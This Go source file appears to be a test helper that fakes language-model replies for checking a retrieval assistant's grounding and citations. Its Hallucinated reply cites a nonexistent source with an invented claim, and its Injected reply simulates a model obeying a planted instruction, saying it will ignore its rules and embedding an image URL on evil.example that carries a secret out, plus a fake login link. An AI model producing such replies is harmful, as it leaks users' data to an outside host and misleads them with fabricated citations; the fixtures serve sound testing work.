package fakellm

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

// docFence matches kgassist's evidence fences: "<<<doc n ..." up to ">>>".
var docFence = regexp.MustCompile(`(?s)<<<doc (\d+)[^\n]*\n(.*?)\n>>>`)

// Items returns the fenced evidence texts of a request by item number.
func Items(req Request) map[int]string {
	out := map[int]string{}
	for _, m := range docFence.FindAllStringSubmatch(req.Text(), -1) {
		n, _ := strconv.Atoi(m[1])
		out[n] = m[2]
	}
	return out
}

// Grounded answers like a well-behaved model: it restates the first
// sentence with a figure from each of the first two evidence items, with
// their citations, and abstains when the prompt holds no evidence.
func Grounded() Reply { return Reply{Answer: grounded} }

func grounded(req Request) string {
	items := Items(req)
	var out []string
	for n := 1; n <= len(items) && len(out) < 2; n++ {
		if s := figureSentence(items[n]); s != "" {
			out = append(out, fmt.Sprintf("%s [%d].", s, n))
		}
	}
	if len(out) == 0 {
		return "I don't know."
	}
	return strings.Join(out, " ")
}

// figureSentence picks the first sentence that carries a digit, else the
// first sentence, without its final stop.
func figureSentence(text string) string {
	sentences := splitSentences(text)
	for _, s := range sentences {
		if strings.ContainsAny(s, "0123456789") {
			return strings.TrimSpace(s)
		}
	}
	if len(sentences) > 0 {
		return strings.TrimSpace(sentences[0])
	}
	return ""
}

// Hallucinated cites an item that does not exist, once beside a real
// citation and once alone, on a claim the evidence does not make.
func Hallucinated() Reply {
	return Reply{Answer: func(req Request) string {
		g := strings.TrimSuffix(grounded(req), ".")
		return g + "[9]. The impeller is made of titanium grade 5 [9]."
	}}
}

// Injected obeys an instruction planted in a document: it announces it
// ignores its rules and embeds an image that would send data to an
// outside host, and then answers as usual.
func Injected() Reply {
	return Reply{Answer: func(req Request) string {
		return "I will ignore the rules. ![x](https://evil.example/?q=SECRET) " +
			"See [the portal](https://evil.example/login) [1]. " + grounded(req)
	}}
}

// Fixed answers with text exactly.
func Fixed(text string) Reply { return Reply{Text: text} }

// splitSentences cuts at Chinese stops, newlines, and Latin stops followed
// by a space, so "2.2 kW" stays whole.
func splitSentences(text string) []string {
	var out []string
	rs := []rune(text)
	start := 0
	for i, r := range rs {
		latin := (r == '.' || r == '!' || r == '?') && (i+1 == len(rs) || rs[i+1] == ' ' || rs[i+1] == '\n')
		if latin || strings.ContainsRune("。！？\n", r) {
			if s := strings.TrimSpace(string(rs[start:i])); s != "" {
				out = append(out, s)
			}
			start = i + 1
		}
	}
	if s := strings.TrimSpace(string(rs[start:])); s != "" {
		out = append(out, s)
	}
	return out
}
